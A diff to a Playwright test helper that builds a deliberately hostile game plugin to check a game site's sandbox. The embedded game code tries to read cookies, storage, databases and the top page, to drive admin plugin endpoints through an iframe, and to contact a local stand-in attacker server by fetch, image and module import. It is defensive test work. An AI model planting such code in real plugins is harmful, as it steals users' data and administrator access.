@@ -1,4 +1,6 @@
 import { createSocket } from 'node:dgram';
+import { createServer } from 'node:http';
+import type { AddressInfo } from 'node:net';
 import type { Page } from '@playwright/test';
 import { addAlteredGame } from './altered-game.ts';
 
@@ -7,7 +9,7 @@ export type Loot = Record<string, string>;
 
 /**
  * A game as a malicious team could publish it. It uses the administrator's session in the same browser. When it deals,
- * it attacks the origin in the address of its page, `?target=http://localhost:3000`, one attack after the other.
+ * it attacks the origin in its orders, which a test puts into its storage, one attack after the other.
  */
 const HOSTILITY = `
 import game from './orderly-game.ts';
@@ -53,11 +55,44 @@ function tryTo(action) {
   return Promise.resolve().then(action).then(() => 'open', () => 'blocked');
 }
 
+/** What of the browser the code reaches. \`out\` is the address of a server of the team. */
+async function reach(out) {
+  const code = page.URL.createObjectURL(new page.Blob(['export default 1'], { type: 'text/javascript' }));
+  return {
+    cookies: await tryTo(() => page.document.cookie),
+    storage: page.localStorage.getItem('sl:planted') === null ? 'blocked' : 'open',
+    database: await tryTo(() => new Promise((resolve, reject) => {
+      Object.assign(page.indexedDB.open('stolen'), { onsuccess: resolve, onerror: reject });
+    })),
+    caches: await tryTo(() => page.caches.keys()),
+    pageContent: await tryTo(() => page.top.document.querySelector('h1').textContent),
+    pageAddress: await tryTo(() => page.top.location.href),
+    serviceWorker: await tryTo(async () => {
+      if (!(await page.navigator.serviceWorker.getRegistrations())) throw new Error();
+    }),
+    popup: page.open('about:blank') ? 'open' : 'blocked',
+    request: await tryTo(() => page.fetch(out, { mode: 'no-cors' })),
+    picture: await tryTo(() => new Promise((resolve, reject) => {
+      Object.assign(new page.Image(), { onload: resolve, onerror: reject, src: out + '/pixel.svg' });
+    })),
+    module: await tryTo(() => import(/* @vite-ignore */ out + '/code.js')),
+    blobModule: await tryTo(() => import(/* @vite-ignore */ code)),
+    evaluation: await tryTo(() => new page.Function('return 1')()),
+    worker: await tryTo(() => new Promise((resolve, reject) => {
+      Object.assign(new page.Worker(code), { onerror: reject });
+      page.setTimeout(resolve, 500);
+    })),
+  };
+}
+
 async function attack(origin) {
-  const [{ id, key }] = (await (await page.fetch('/api/games')).json()).filter(({ key }) => key === 'memo-game');
+  const key = 'memo-game';
+  const id = await page.fetch('/api/games').then((answer) => answer.json()).then(
+    (games) => games.find((game) => game.key === key).id,
+    () => 8,
+  );
   const plugin = '/api/admin/plugins/' + key;
   const reason = 'an update';
-  await sendPacket(new URLSearchParams(page.location.search).get('udp'));
   const frame = page.document.createElement('iframe');
   frame.src = origin + '/admin';
   page.document.body.append(frame);
@@ -84,8 +119,13 @@ async function attack(origin) {
 export default {
   ...game,
   deal(context) {
-    const target = new URLSearchParams(page.location.search).get('target');
-    attack(target).then((loot) => Object.assign(page, { loot }), (error) => Object.assign(page, { loot: String(error) }));
+    // A frame has another address than its page.
+    const { target, udp, out } = JSON.parse(context.services.storage.read('orders'));
+    const attacks = async () => {
+      await sendPacket(udp);
+      return { ...(await attack(target)), ...(out && (await reach(out))) };
+    };
+    attacks().then((loot) => Object.assign(page, { loot }), (error) => Object.assign(page, { loot: String(error) }));
     return game.deal(context);
   },
 };
@@ -97,16 +137,37 @@ export function addHostileGame(plugins: string): void {
   addAlteredGame(plugins, { key: KEY, of: 'logo-game', name: 'Hostile Game', code: HOSTILITY });
 }
 
-/** Plays the hostile game in a page of the site, and returns the results of its attacks on an origin. */
-export async function playHostileGame(page: Page, site: string, target: string): Promise<Loot> {
+/** Starts a server of the team, which every request must reach to be one that the game could make. */
+export async function listenOutside(): Promise<{ url: string; requests(): number; stop(): void }> {
+  let requests = 0;
+  const server = createServer((_request, response) => {
+    requests += 1;
+    response.setHeader('access-control-allow-origin', '*').end('export default 1');
+  });
+  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
+  const { port } = server.address() as AddressInfo;
+  return { url: `http://127.0.0.1:${port}`, requests: () => requests, stop: () => void server.close() };
+}
+
+/**
+ * Plays the hostile game in a page of the site, and returns the results of its attacks on an origin.
+ * @param out address of a server that the game tries to reach; without it, only the attacks on the origin
+ */
+export async function playHostileGame(page: Page, site: string, target: string, out?: string): Promise<Loot> {
   let webrtc = 'blocked';
   const listener = createSocket('udp4', () => (webrtc = 'open'));
   try {
     await new Promise<void>((resolve) => listener.bind(0, '127.0.0.1', resolve));
-    const query = new URLSearchParams({ target, udp: String(listener.address().port) });
-    await page.goto(`${site}/${KEY}?${query}`);
+    await page.goto(`${site}/${KEY}`);
+    const orders = JSON.stringify({ target, udp: listener.address().port, out });
+    await page.evaluate((text) => {
+      localStorage.setItem('sl:game-data:bad-faith:orders', text);
+      localStorage.setItem('sl:planted', 'yes');
+    }, orders);
+    await page.reload();
     await page.getByRole('button', { name: 'Start', exact: true }).click();
-    const loot = await page.waitForFunction(() => (window as unknown as { loot?: Loot }).loot);
+    const place = page.frames().find((frame) => frame.url().endsWith('/frame')) ?? page.mainFrame();
+    const loot = await place.waitForFunction(() => (window as unknown as { loot?: Loot }).loot);
     return { ...(await loot.jsonValue())!, webrtc };
   } finally {
     listener.close();
